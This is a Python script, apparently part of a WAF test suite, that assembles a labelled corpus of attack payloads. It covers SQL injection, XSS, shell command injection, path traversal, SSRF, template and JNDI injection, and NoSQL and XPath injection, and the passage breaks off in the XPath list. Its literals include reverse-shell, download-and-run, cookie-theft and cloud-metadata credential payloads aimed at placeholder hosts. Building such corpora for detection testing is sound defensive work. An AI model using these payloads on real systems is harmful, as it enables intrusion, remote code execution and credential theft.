#!/usr/bin/env python3
"""Builds the attack half of the labelled WAF corpus (tests/corpus/<category>.jsonl).

    python3 tests/corpus/build_attacks.py /path/to/PayloadsAllTheThings.git

The argument is a git directory (bare or not) of swisskyrepo/PayloadsAllTheThings (MIT); files are read with
`git show HEAD:<path>`. Lines are filtered (fuzzing fragments that are not an attack on their own are dropped),
deduplicated by a skeleton (case and digits folded, so `ORDER BY 1` .. `ORDER BY 30` count once), sampled with a
fixed seed, and completed with variations written here (case, comments, whitespace, encodings) and payloads
generated here from the techniques each category names. The output is deterministic for a given snapshot.

A payload is the value as a client means it (unencoded); the replay encodes it for its place. Where a source
line carries percent-encoding as part of the attack (double encoding, overlong UTF-8), it is kept literally.
"""

import json
import os
import random
import re
import subprocess
import sys
import urllib.parse

SEED = 13
HERE = os.path.dirname(os.path.abspath(__file__))

GIT = sys.argv[1] if len(sys.argv) > 1 else None


def source(path):
    out = subprocess.run(["git", "--git-dir", GIT, "show", "HEAD:" + path], capture_output=True, check=True)
    text = out.stdout.decode("utf-8", "replace")
    return [l.rstrip("\r") for l in text.split("\n")]


def skeleton(p):
    s = re.sub(r"\d+", "0", re.sub(r"\s+", " ", p.strip().lower()))
    # Column-count probes differ only in how many columns they list: `,2,3,4` and `,null,null` fold to one;
    # so do payloads that repeat a group (`+CHAR(73)+CHAR(78)+...`, `../../../`).
    s = re.sub(r"(,\s*(0|null|'0'))+", ",0", s)
    return re.sub(r"(.{2,16}?)\1{2,}", r"\1", s)


class Bag:
    """Payloads of one category with their places, deduplicated by skeleton."""

    def __init__(self, category):
        self.category = category
        self.items = []
        self.seen = set()

    def add(self, payload, place):
        if not payload or len(payload) > 4000:
            return False
        if "\ufffd" in payload:
            return False
        key = (skeleton(payload), place)
        if key in self.seen:
            return False
        self.seen.add(key)
        self.items.append({"category": self.category, "place": place, "payload": payload})
        return True

    def write(self):
        path = os.path.join(HERE, self.category + ".jsonl")
        with open(path, "w", encoding="utf-8") as f:
            for it in self.items:
                f.write(json.dumps(it, ensure_ascii=False) + "\n")
        return len(self.items)


def printable(p):
    return all(0x20 <= ord(c) < 0x7F for c in p)


def header_ok(p):
    return printable(p)


def multipart_ok(p):
    return printable(p) and '"' not in p


def decode_once(p):
    """%xx sequences in lists made for URLs: decode once if the result is clean text."""
    if not re.search(r"%[0-9A-Fa-f]{2}", p):
        return p
    try:
        d = urllib.parse.unquote(p, errors="strict")
    except UnicodeDecodeError:
        return p
    if any(ord(c) < 0x20 and c not in "\t\n" for c in d):
        return p
    return d


def rotate(rng, p, places, fits=None):
    """A place for p: the first of a shuffled rotation that accepts it."""
    order = places[:]
    rng.shuffle(order)
    for pl in order:
        if pl == "header" and not header_ok(p):
            continue
        if pl == "cookie" and not printable(p):
            continue
        if pl == "multipart_file" and not multipart_ok(p):
            continue
        if fits and not fits(pl, p):
            continue
        return pl
    return "json"


def sample(rng, lines, n):
    lines = list(dict.fromkeys(lines))
    if len(lines) <= n:
        return lines
    return rng.sample(lines, n)


def rand_case(rng, s):
    return "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in s)


# ---------------------------------------------------------------------------------------------------------------
# SQL injection

SQL_SIGNAL = re.compile(
    r"(?i)(\bunion\b|\bselect\b|\bsleep\s*\(|\bbenchmark\s*\(|waitfor\s+delay|\bor\b\s*['\"\d(]|\band\b\s*['\"\d(]"
    r"|--|#|/\*|;\s*(drop|insert|update|delete|exec|shutdown|select|declare)|\bhaving\b|\border\s+by\b|"
    r"\bpg_sleep\b|\bdbms_|\butl_|\bload_file\b|\binto\s+(out|dump)file\b|\bexec(ute)?\b|\bxp_cmdshell\b|"
    r"\bextractvalue\b|\bupdatexml\b|\bconvert\s*\(|\bcast\s*\()"
)


def sqli(rng):
    bag = Bag("sqli")
    files = [
        "SQL Injection/Intruder/Auth_Bypass.txt",
        "SQL Injection/Intruder/Auth_Bypass2.txt",
        "SQL Injection/Intruder/Generic_ErrorBased.txt",
        "SQL Injection/Intruder/Generic_TimeBased.txt",
        "SQL Injection/Intruder/Generic_UnionSelect.txt",
        "SQL Injection/Intruder/Generic_Fuzz.txt",
        "SQL Injection/Intruder/FUZZDB_MSSQL.txt",
        "SQL Injection/Intruder/FUZZDB_MSSQL-WHERE_Time.txt",
        "SQL Injection/Intruder/FUZZDB_MSSQL_Enumeration.txt",
        "SQL Injection/Intruder/FUZZDB_MYSQL.txt",
        "SQL Injection/Intruder/FUZZDB_MySQL-WHERE_Time.txt",
        "SQL Injection/Intruder/FUZZDB_MySQL_ReadLocalFiles.txt",
        "SQL Injection/Intruder/FUZZDB_Oracle.txt",
        "SQL Injection/Intruder/FUZZDB_Postgres_Enumeration.txt",
        "SQL Injection/Intruder/SQL-Injection",
        "SQL Injection/Intruder/SQLi_Polyglots.txt",
        "SQL Injection/Intruder/payloads-sql-blind-MSSQL-INSERT",
        "SQL Injection/Intruder/payloads-sql-blind-MSSQL-WHERE",
        "SQL Injection/Intruder/payloads-sql-blind-MySQL-INSERT",
        "SQL Injection/Intruder/payloads-sql-blind-MySQL-ORDER_BY",
        "SQL Injection/Intruder/payloads-sql-blind-MySQL-WHERE",
    ]
    lines = []
    for f in files:
        for l in source(f):
            if "\t" in l and f.endswith("SQL-Injection"):
                l = l.split("\t")[0]  # that list annotates with a tab
            l = decode_once(l).strip()
            if len(l) < 6 or l.startswith("# ") or l == "-- or #":  # that list has comment lines
                continue
            # Copies from web pages with typographic dashes and quotes (`or 1=1–`, `'1′='1`) or typos
            # (`waifor`) are not SQL any more.
            if re.search("[\u2013\u2014\u2018\u2019\u201c\u201d\u2032]", l) or "waifor" in l:
                continue
            if not SQL_SIGNAL.search(l):
                continue
            # A bare statement (`select @@version`) breaks out of no context: it is not an injection by
            # itself, and the benign corpus has SQL code snippets.
            if re.match(r"(?i)select\s", l) and not re.search(r"(?i)(sleep|benchmark|waitfor|union|#|--|/\*)", l):
                continue
            lines.append(l)
    # Dedupe by skeleton first, then sample.
    by_skel = {}
    for l in lines:
        by_skel.setdefault(skeleton(l), l)
    picked = sample(rng, sorted(by_skel.values()), 260)
    places = ["query", "query", "json", "json", "form", "cookie", "header", "path", "json_key", "multipart_file"]
    for p in picked:
        bag.add(p, rotate(rng, p, places))
    # Own payloads and variations: prefixes (string, numeric, parenthesised) x tautologies and stacked queries.
    prefixes = ["1'", "1\"", "1", "1)", "1')", "x'", "admin'", "' ", "1))", "-1'"]
    bodies = [
        " OR 1=1-- -",
        " OR 'a'='a",
        " OR 2>1#",
        " UNION SELECT username, password FROM users-- -",
        " UNION ALL SELECT NULL,NULL,@@version#",
        " AND SLEEP(5)-- ",
        " AND 1=(SELECT COUNT(*) FROM information_schema.tables)--",
        "; DROP TABLE users--",
        "; EXEC xp_cmdshell('whoami')--",
        " AND extractvalue(1,concat(0x7e,(SELECT user())))-- -",
        " AND updatexml(1,concat(0x7e,version()),1)#",
        " OR pg_sleep(5)--",
        " || (SELECT 1 FROM pg_sleep(5))--",
        " AND 1=CAST((SELECT version()) AS int)--",
        " ORDER BY 10-- -",
        "; WAITFOR DELAY '0:0:5'--",
        " AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64--",
        " OR EXISTS(SELECT * FROM users WHERE name='admin')--",
        " UNION SELECT LOAD_FILE('/etc/passwd')#",
        " AND (SELECT 1 FROM dual WHERE 1=1)='1",
        " OR 1 LIKE 1--",
        " OR TRUE--",
        " HAVING 1=1--",
        " GROUP BY columnnames HAVING 1=1--",
        " UNION SELECT table_name FROM information_schema.tables WHERE table_schema=database()-- -",
        " AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',5)--",
        " OR 'x' IN ('x')-- ",
        " AND BENCHMARK(5000000,SHA1(1))#",
        " OR username IS NOT NULL--",
        "; SELECT pg_read_file('/etc/passwd')--",
    ]
    own = []
    for b in bodies:
        for pre in rng.sample(prefixes, 3):
            own.append(pre + b)
    for p in own:
        bag.add(p, rotate(rng, p, places))
    # Evasions on a subset: case, inline comments, whitespace characters, MySQL versioned comments, encodings.
    evasions = []
    base = rng.sample(own, 70)
    for i, p in enumerate(base):
        k = i % 7
        if k == 0:
            v = re.sub(r"[A-Za-z]+", lambda m: rand_case(rng, m.group(0)), p)
        elif k == 1:
            v = p.replace(" ", "/**/")
        elif k == 2:
            v = p.replace(" ", "\n")
        elif k == 3:
            v = p.replace(" ", "\t")
        elif k == 4:
            v = re.sub(r"(?i)\b(union|select|or|and|sleep|from)\b", lambda m: "/*!" + m.group(0) + "*/", p)
        elif k == 5:
            v = urllib.parse.quote(p, safe="")  # double-encoded on the wire
        else:
            v = p.replace(" ", "%20").replace("'", "%27")
        evasions.append(v)
    for v in evasions:
        bag.add(v, rotate(rng, v, places))
    return bag


# ---------------------------------------------------------------------------------------------------------------
# XSS

XSS_SIGNAL = re.compile(
    r"(?i)(<\s*/?\s*[a-z!?]|javascript\s*:|vbscript:|\bon[a-z]{3,}\s*=|data:text/html|expression\s*\()"
)


# Something that runs script (a plain link such as `<A HREF="http://www.google.com">XSS</A>` does not).
XSS_EXEC = re.compile(
    r"(?i)(on[a-z]+\s*=|javascript|vbscript|livescript|<\s*script|data:|expression\s*\(|srcdoc|behavior\s*:|"
    r"<\s*(iframe|frame|object|embed|applet|base|meta|link|svg|math|style|xml|import|form)|alert|prompt|confirm|eval|&#)"
)


def xss(rng):
    bag = Bag("xss")
    files = [
        "XSS Injection/Intruders/xss_alert.txt",
        "XSS Injection/Intruders/JHADDIX_XSS.txt",
        "XSS Injection/Intruders/RSNAKE_XSS.txt",
        "XSS Injection/Intruders/IntrudersXSS.txt",
        "XSS Injection/Intruders/BRUTELOGIC-XSS-STRINGS.txt",
        "XSS Injection/Intruders/BRUTELOGIC-XSS-JS.txt",
        "XSS Injection/Intruders/XSS_Polyglots.txt",
        "XSS Injection/Intruders/xss_payloads_quick.txt",
        "XSS Injection/Intruders/XSSDetection.txt",
    ]
    lines = []
    for f in files:
        for l in source(f):
            l = l.strip()
            if len(l) < 8 or "+ADw-" in l or "+AD4-" in l or "%(" in l:  # UTF-7 only matters to a browser guessing charset
                continue
            d = decode_once(l)
            if not XSS_SIGNAL.search(d) or not XSS_EXEC.search(d):
                continue
            lines.append(d)
    by_skel = {}
    for l in lines:
        by_skel.setdefault(skeleton(l), l)
    picked = sample(rng, sorted(by_skel.values()), 280)
    places = ["query", "query", "json", "json", "form", "header", "cookie", "path", "multipart_file", "json_key"]
    for p in picked:
        bag.add(p, rotate(rng, p, places))
    # Own: event handlers from the PortSwigger cheat-sheet list on tags; javascript:/data: URLs; SVG.
    handlers = [h.strip() for h in source("XSS Injection/Intruders/port_swigger_xss_cheatsheet_event_handlers.txt")]
    handlers = [h for h in handlers if re.fullmatch(r"on[a-z]+", h)]
    tags = ["img src=x", "svg", "body", "details open", "video src=x", "input autofocus", "iframe", "a href=#",
            "div", "marquee", "audio src=x", "select autofocus", "textarea autofocus", "object data=x"]
    calls = ["alert(1)", "alert`1`", "prompt(document.domain)", "confirm(1)", "eval(atob('YWxlcnQoMSk='))",
             "fetch('//evil.example/'+document.cookie)", "top['al'+'ert'](1)", "print()"]
    for h in sample(rng, handlers, 60):
        t = rng.choice(tags)
        c = rng.choice(calls)
        q = rng.choice(["", "'", '"'])
        bag.add(f"<{t} {h}={q}{c}{q}>", rotate(rng, "x", places))
    urls = ["javascript:alert(1)", "JaVaScRiPt:alert(document.cookie)", "javascript://%0aalert(1)",
            "java\tscript:alert(1)", "&#106;avascript:alert(1)", "javascript&colon;alert(1)",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:text/html,<script>alert(1)</script>",
            "vbscript:msgbox(1)", " javascript:alert(1)"]
    for u in urls:
        for wrap in ['<a href="{}">x</a>', '<iframe src="{}">', "{}", '<form action="{}"><button>x']:
            p = wrap.format(u)
            bag.add(p, rotate(rng, p, places))
    svgs = ["<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
            "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
            "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>",
            "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"/></svg>",
            "<svg><set attributeName=onmouseover to=alert(1)>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<svg><foreignObject><iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe></foreignObject></svg>"]
    for p in svgs:
        bag.add(p, rotate(rng, p, places))
    # Variations: case, entity-encoded attribute values, closing a quoted attribute first, whitespace/slash tricks.
    base = [it["payload"] for it in bag.items if "<" in it["payload"]]
    for i, p in enumerate(rng.sample(base, 60)):
        k = i % 5
        if k == 0:
            v = rand_case(rng, p)
        elif k == 1:
            v = '">' + p
        elif k == 2:
            v = "'>" + p + "<!--"
        elif k == 3:
            v = p.replace(" ", "/", 1)
        else:
            v = urllib.parse.quote(p, safe="")
        bag.add(v, rotate(rng, v, places))
    return bag


# ---------------------------------------------------------------------------------------------------------------
# OS command injection

CMD_WORD = re.compile(
    r"(?i)(\b(id|whoami|uname|cat|ls|ping|sleep|nc|ncat|wget|curl|bash|sh|netstat|ifconfig|ipconfig|dir|type|"
    r"net user|systeminfo|sysinfo|powershell|cmd|echo|nslookup|perl|python|php|ruby|rm|chmod|tftp|telnet|xterm)\b|/bin/|/etc/passwd|\$\{IFS\})"
)
CMD_SEP = re.compile(r"(;|\||&|`|\$\(|\n|%0a|\(\)\s*\{)")


def cmdi(rng):
    bag = Bag("cmdi")
    lines = []
    for f in ["Command Injection/Intruder/command-execution-unix.txt", "Command Injection/Intruder/command_exec.txt"]:
        for l in source(f):
            l = l.strip()
            if "&lt;" in l or "<!--#" in l or "<?php" in l or "$_GET" in l:
                continue  # SSI, another category
            if len(l) < 4 or not CMD_WORD.search(l) or not CMD_SEP.search(l):
                continue
            if re.search(r"\b(system|exec|eval|passthru)\s*\(", l):
                continue  # PHP code injection, not a shell command
            lines.append(decode_once(l).replace("\\n", "\n"))
    by_skel = {}
    for l in lines:
        by_skel.setdefault(skeleton(l), l)
    places = ["query", "query", "json", "form", "header", "cookie", "path", "multipart_file"]
    for p in sample(rng, sorted(by_skel.values()), 90):
        bag.add(p, rotate(rng, p, places))
    # Own: separators x commands, Unix and Windows, with the usual evasions.
    unix = ["id", "cat /etc/passwd", "uname -a", "whoami", "sleep 10", "curl http://203.0.113.7/x.sh|sh",
            "wget -qO- http://203.0.113.7/s|bash", "nc -e /bin/sh 203.0.113.7 4444", "ls -la /", "ping -c 10 127.0.0.1",
            "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", "rm -rf /tmp/x", "cat${IFS}/etc/passwd", "/bin/cat /etc/shadow",
            "c'a't /etc/passwd", "w\\ho\\am\\i", "$(printf 'id')", "busybox nc 203.0.113.7 1 -e sh"]
    win = ["dir c:\\", "type C:\\Windows\\win.ini", "net user", "whoami /all", "ipconfig /all", "systeminfo",
           "powershell -enc SQBFAFgA", "powershell IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')",
           "cmd /c whoami", "certutil -urlcache -split -f http://203.0.113.7/a.exe a.exe", "ping -n 10 127.0.0.1"]
    seps = [";", "|", "||", "&", "&&", "\n", "`{}`", "$({})", "a;", "1|", "x && ", "'; ", "\"; ", "%0a"]
    for cmd in unix:
        for s in rng.sample(seps, 4):
            p = s.format(cmd) if "{}" in s else s + cmd if not s[-1].isalnum() else s + " " + cmd
            if s in ("a;", "1|"):
                p = s + cmd
            bag.add(p, rotate(rng, p, places))
    for cmd in win:
        for s in rng.sample(["&", "&&", "|", "||", "\r\n", "%26"], 3):
            p = s + " " + cmd
            bag.add(p, rotate(rng, p, places))
    return bag


# ---------------------------------------------------------------------------------------------------------------
# Path traversal and local file inclusion

FILES_UNIX = ["etc/passwd", "etc/shadow", "etc/hosts", "proc/self/environ", "var/log/apache2/access.log",
              "root/.ssh/id_rsa", "proc/self/cmdline", "etc/issue", "home/user/.bash_history"]
FILES_WIN = ["windows/win.ini", "boot.ini", "windows/system32/drivers/etc/hosts", "inetpub/wwwroot/web.config",
             "windows/repair/sam"]


def traversal(rng):
    bag = Bag("traversal")
    lines = []
    for f in ["Directory Traversal/Intruder/directory_traversal.txt", "Directory Traversal/Intruder/deep_traversal.txt",
              "File Inclusion/Intruders/JHADDIX_LFI.txt", "File Inclusion/Intruders/Traversal.txt",
              "File Inclusion/Intruders/dot-slash-PathTraversal_and_LFI_pairing.txt"]:
        for l in source(f):
            l = l.strip()
            if "{FILE}" in l:
                l = l.replace("{FILE}", rng.choice(FILES_UNIX))
            low = l.lower()
            if not re.search(r"(\.\.[/\\%]|[/\\]\.\.|%2e%2e|%252e|%c0%ae|%c0%af|%c1%9c|%u002e|/etc/|"
                             r"win\.ini|boot\.ini|php://|file://)", low):
                continue
            if len(l) < 6 or len(l) > 300 or "AAAAAAAA" in l or not printable(l):
                continue
            if "0x2e" in low or "&apos;" in low:  # `0x2e` for a dot is a fuzzer's spelling no server decodes
                continue
            lines.append(l)
    exotic = [l for l in source("Directory Traversal/Intruder/traversals-8-deep-exotic-encoding.txt")
              if "{FILE}" in l and "0x2e" not in l.lower()]
    by_skel = {}
    for l in lines:
        by_skel.setdefault(skeleton(l), l)
    places = ["query", "query", "json", "form", "path", "multipart_file", "cookie", "header"]
    for p in sample(rng, sorted(by_skel.values()), 110):
        bag.add(p, rotate(rng, p, places))
    for l in sample(rng, exotic, 30):
        p = l.strip().replace("{FILE}", rng.choice(FILES_UNIX + FILES_WIN))
        bag.add(p, rotate(rng, p, places))
    # Own: depth x separator x encoding x target file; wrappers.
    seps = ["../", "..\\", "..%2f", "%2e%2e/", "%2e%2e%2f", "..%5c", "....//", "..;/", "%252e%252e%252f", "..%c0%af",
            "..%u2215", ".%2e/"]
    for i in range(60):
        s = rng.choice(seps)
        depth = rng.randint(2, 9)
        target = rng.choice(FILES_UNIX + FILES_WIN)
        if "\\" in s or "5c" in s:
            target = target.replace("/", "\\")
        lead = rng.choice(["", "", "/", "files/", "images/../"])
        p = lead + s * depth + target + rng.choice(["", "", "%00", "%00.png", "\x00.jpg"])
        bag.add(p, rotate(rng, p, places))
    for w in ["php://filter/convert.base64-encode/resource=index.php", "php://filter/read=string.rot13/resource=/etc/passwd",
              "file:///etc/passwd", "file://localhost/etc/shadow", "php://input", "expect://id",
              "zip://uploads/a.zip%23shell.php", "phar://uploads/avatar.jpg/shell.php", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWyJjIl0pOz8+",
              "/etc/passwd", "/proc/self/environ", "C:\\Windows\\win.ini", "c:/boot.ini", "\\\\?\\C:\\Windows\\win.ini",
              "/var/www/../../etc/passwd", "....//....//....//etc/passwd"]:
        bag.add(w, rotate(rng, w, places))
    return bag


# ---------------------------------------------------------------------------------------------------------------
# SSRF / remote file inclusion

def ssrf(rng):
    bag = Bag("ssrf")
    hosts = ["127.0.0.1", "localhost", "127.1", "127.0.1", "0", "0.0.0.0", "2130706433", "0x7f000001", "0x7f.0.0.1",
             "0177.0.0.1", "017700000001", "[::1]", "[::]", "[0:0:0:0:0:0:0:1]", "[::ffff:127.0.0.1]",
             "[::ffff:7f00:1]", "[0:0:0:0:0:ffff:127.0.0.1]", "169.254.169.254", "2852039166", "0xa9fea9fe",
             "0251.0376.0251.0376", "[::ffff:169.254.169.254]", "[fd00:ec2::254]", "metadata.google.internal",
             "metadata", "100.100.100.200", "169.254.170.2", "10.0.0.1", "10.1.2.3", "192.168.0.1", "172.16.0.10",
             "172.31.255.1", "127.0.0.1.nip.io", "localhost.localdomain", "127.127.127.127", "0x7f.1", "LOCALHOST",
             "169.254.169.254.xip.io", "[::ffff:a9fe:a9fe]", "192.168.1.1"]
    paths = ["/", "/admin", "/latest/meta-data/", "/latest/meta-data/iam/security-credentials/",
             "/computeMetadata/v1/instance/service-accounts/default/token", "/metadata/instance?api-version=2021-02-01",
             ":6379/", ":22/", ":8080/actuator/env", ":2375/containers/json", ":9200/_cat/indices", "/server-status",
             ":11211/", "/latest/user-data", ":10250/pods"]
    schemes = ["http://", "http://", "https://", "gopher://", "dict://", "ftp://", "//", "http://user@", "HTTP://"]
    places = ["query", "query", "json", "json", "form", "header", "cookie"]
    seen_hosts = list(hosts)
    for h in seen_hosts:
        for _ in range(3):
            s = rng.choice(schemes)
            if s.startswith("gopher") or s.startswith("dict"):
                pth = rng.choice([":6379/_INFO", ":11211/stats", ":25/_HELO%20x", ":6379/_FLUSHALL"])
            else:
                pth = rng.choice(paths)
            p = s + h + pth
            bag.add(p, rotate(rng, p, places))
    # Wrapped in realistic parameters and redirect-style payloads.
    for p in ["http://169.254.169.254/latest/meta-data/iam/security-credentials/admin-role",
              "http://[::ffff:169.254.169.254]/latest/api/token",
              "http://metadata.google.internal/computeMetadata/v1/project/project-id",
              "http://169.254.169.254/metadata/v1/", "http://127.0.0.1:80#@example.com/", "http://example.com@127.0.0.1/",
              "http://127.0.0.1%23@example.com/", "http://0/", "http://127.000.000.001/", "http://①②⑦.⓪.⓪.①/",
              "file:///etc/passwd", "file://127.0.0.1/etc/passwd", "jar:http://127.0.0.1!/", "netdoc:///etc/passwd",
              "ldap://127.0.0.1:389/%0astats%0aquit", "sftp://10.0.0.1:11111/", "tftp://10.0.0.1:12346/TESTUDPPACKET",
              "http://localhost:2375/v1.24/containers/json", "http://10.0.0.1:8500/v1/agent/self",
              "https://169.254.169.254/latest/dynamic/instance-identity/document"]:
        bag.add(p, rotate(rng, p, places))
    return bag


# ---------------------------------------------------------------------------------------------------------------
# Template and expression injection

def template(rng):
    bag = Bag("template")
    places = ["query", "query", "json", "json", "form", "header", "cookie", "path"]
    for l in source("Server Side Template Injection/Intruder/ssti.fuzz"):
        l = l.strip()
        if len(l) < 5 or not re.search(r"(\{\{|\{%|\$\{|#\{|<%|\{\$|\{php\}|\[#|@\(|\*\{)", l):
            continue
        bag.add(l, rotate(rng, l, places))
    jndi_hosts = ["attacker.example", "203.0.113.7:1389", "127.0.0.1:1389", "x.oast.example"]
    jndi = ["${jndi:ldap://%s/a}", "${jndi:rmi://%s/Exploit}", "${jndi:dns://%s/q}", "${jndi:ldaps://%s/x}",
            "${${lower:j}ndi:ldap://%s/a}", "${${::-j}${::-n}${::-d}${::-i}:ldap://%s/a}",
            "${${env:NaN:-j}ndi${env:NaN:-:}ldap://%s/a}", "${jndi:${lower:l}${lower:d}a${lower:p}://%s/a}",
            "${${upper:j}ndi:ldap://%s/a}", "${j${k8s:k5:-ND}i:ldap://%s/a}", "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://%s/a}",
            "${jndi:iiop://%s/a}", "${jndi:nis://%s/a}", "${jndi:corba://%s/a}", "${jndi:http://%s/a}",
            "${${sys:foo:-j}ndi:ldap://%s/a}", "${jndi:ldap://${env:USER}.%s/a}", "${jndi:ldap://%s/${sys:java.version}}"]
    for j in jndi:
        for h in rng.sample(jndi_hosts, 2):
            p = j % h
            bag.add(p, rotate(rng, p, places))
    own = [
        "{{7*7}}", "{{ 7 * '7' }}", "{{config}}", "{{self.__init__.__globals__}}", "{{cycler.__init__.__globals__.os.popen('id').read()}}",
        "{{lipsum.__globals__['os'].popen('id').read()}}", "{{joiner.__init__.__globals__.os.popen('whoami').read()}}",
        "{{namespace.__init__.__globals__.os.popen('id').read()}}", "{{url_for.__globals__.os.environ}}",
        "{{get_flashed_messages.__globals__['current_app'].config}}", "{{ ''|attr('__class__') }}",
        "{% import os %}{{ os.system('id') }}", "{% raw %}{{7*7}}{% endraw %}", "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}",
        "${7*7}", "${T(java.lang.Runtime).getRuntime().exec('id')}", "#{T(java.lang.Runtime).getRuntime().exec('whoami')}",
        "*{T(java.lang.System).getenv()}", "${T(java.lang.System).getenv()}", "#{7*7}", "#{ 7 * 7 }",
        "${new java.lang.ProcessBuilder({'id'}).start()}", "%{#a=(new java.lang.ProcessBuilder(new java.lang.String[]{'id'})).start()}",
        "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
        "%{#context['xwork.MethodAccessor.denyMethodExecution']=false}", "${#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse']}",
        "%{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess=#dm).(@java.lang.Runtime@getRuntime().exec('id'))}",
        "${@java.lang.Runtime@getRuntime().exec('id')}", "${facesContext.externalContext.request}", "#{facesContext.getExternalContext()}",
        "${applicationScope}", "${pageContext.request.serverName}", "${''.getClass().forName('java.lang.Runtime')}",
        "<%= system('id') %>", "<%= `ls /` %>", "<%= 7*7 %>", "<% Runtime.getRuntime().exec(\"id\") %>",
        "<#assign x=\"freemarker.template.utility.Execute\"?new()>${x(\"id\")}", "${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.lang.ProcessBuilder\",\"id\").start()}",
        "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('id')",
        "#set($str=$class.inspect('java.lang.String').type)", "$class.inspect('java.lang.Runtime').type.getRuntime().exec('id')",
        "{$smarty.version}", "{php}system('id');{/php}", "{system('id')}", "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['c']); ?>\",self::clearConfig())}",
        "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}", "{{['id']|map('system')|join}}",
        "{{['id',1]|sort('system')|join}}", "@(7*7)", "@{ var x = 7*7; }", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")",
        "{{#with \"s\" as |string|}}{{#with \"e\"}}{{/with}}{{/with}}", "{{this.constructor.constructor('alert(1)')()}}",
        "<%- global.process.mainModule.require('child_process').execSync('id') %>", "#{''.class.forName('java.lang.Runtime')}",
        "${{<%[%'\"}}%\\.", "${jndi:ldap://attacker.example/a}${7*7}", "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
        "${__import__('os').popen('id').read()}", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}",
        "[[${T(java.lang.Runtime).getRuntime().exec('id')}]]", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
        "{{=7*7}}", "{{= global.process.mainModule.require('child_process').execSync('id') }}",
    ]
    for p in own:
        bag.add(p, rotate(rng, p, places))
    return bag


# ---------------------------------------------------------------------------------------------------------------
# NoSQL operator injection

def nosql(rng):
    bag = Bag("nosql")
    for l in source("NoSQL Injection/Intruder/NoSQL.txt") + source("NoSQL Injection/Intruder/MongoDB.txt"):
        l = decode_once(l.strip())
        # The list splits one payload over two lines (`' } ], $comment:...` is the tail) and misspells `$exists`.
        if len(l) < 5 or l.startswith("' } ]") or "&exists" in l:
            continue
        bag.add(l, rotate(rng, l, ["query", "json", "form"]))
    ops = ["$ne", "$gt", "$gte", "$lt", "$lte", "$regex", "$where", "$exists", "$nin", "$in", "$or", "$and", "$nor",
           "$not", "$expr", "$function", "$accumulator", "$elemMatch", "$size", "$type", "$all", "$eq", "$mod", "$text",
           "$lookup", "$jsonSchema"]
    for o in ops:
        bag.add(o, "json_key")
    # Operator objects sent where a string is expected (apps that parse a parameter as JSON).
    objs = ['{"$ne": null}', '{"$ne": ""}', '{"$gt": ""}', '{"$regex": ".*"}', '{"$regex": "^a"}', '{"$exists": true}',
            '{"$nin": []}', '{"$where": "sleep(5000)"}', '{"$where": "this.password.length > 0"}', '{"$in": ["admin", "root"]}',
            '{"$or": [{}, {"a": "a"}]}', '{"$expr": {"$eq": [1, 1]}}', '{"$function": {"body": "return true", "args": [], "lang": "js"}}',
            '{"username": {"$ne": "x"}, "password": {"$ne": "x"}}', '{"$gte": " "}', "{$ne: 1}", "{$gt: ''}",
            '{"$where": "function(){return true}"}', '{"$regex": "^.*$", "$options": "si"}', '[{"$match": {"role": {"$ne": "user"}}}]']
    for o in objs:
        for pl in ["query", "json", "form"]:
            bag.add(o, pl)
    # Server-side JavaScript in $where strings.
    js = ["'; return true; var x='", "' || '1'=='1", "1; return true", "'; while(true){}; var x='", "this.password.match(/^a/)",
          "'; sleep(5000); var x='", "\"; return db.getCollectionNames(); var x=\"", "0; var date=new Date(); do{curDate = new Date();}while(curDate-date<5000)",
          "' && this.role == 'admin", "admin' || 'a'=='a", "'; return this.secret; var x='", "1 || this.isAdmin == true",
          "function(){ return sleep(5000) }", "'; db.users.drop(); var x='", "\" || \"\"==\""]
    for p in js:
        bag.add(p, rotate(rng, p, ["query", "json", "form"]))
    return bag


# ---------------------------------------------------------------------------------------------------------------
# XPath injection

def xpath(rng):
    bag = Bag("xpath")
    places = ["query", "query", "json", "form", "xml_text", "cookie"]
    base = ["' or '1'='1", "' or ''='", "x' or 1=1 or 'x'='y", "count(/child::node())", "x' or name()='username' or 'x'='y",
            "' and count(/*)=1 and '1'='1", "' and count(/@*)=1 and '1'='1", "' and count(/comment())=1 and '1'='1",
            "')] | //user/*[contains(*,'", "') and contains(../password,'c", "') and starts-with(../password,'c",
            "' or string-length(name(.))<10 or '", "' or substring(name(/*[1]),1,1)='a", "' or count(//user)>0 or '",
            "'] | //* | //*['", "' | //password | '", "admin' or '1'='1' or 'a'='a", "') or ('1'='1",
            "' or position()=1 or '", "' or contains(name(),'user') or '", "x' or doc('http://attacker.example/x') or '",
            "' or doc-available(concat('http://attacker.example/', name(/*))) or '", "'] | /* | /foo['",
            "' and string-length(//user[1]/password)>5 and '1'='1", "' or boolean(//secret) or '",
            "' or //user[name/text()='admin' and password/text()!=''] or '", "1 or 1=1", "1] | //*[1",
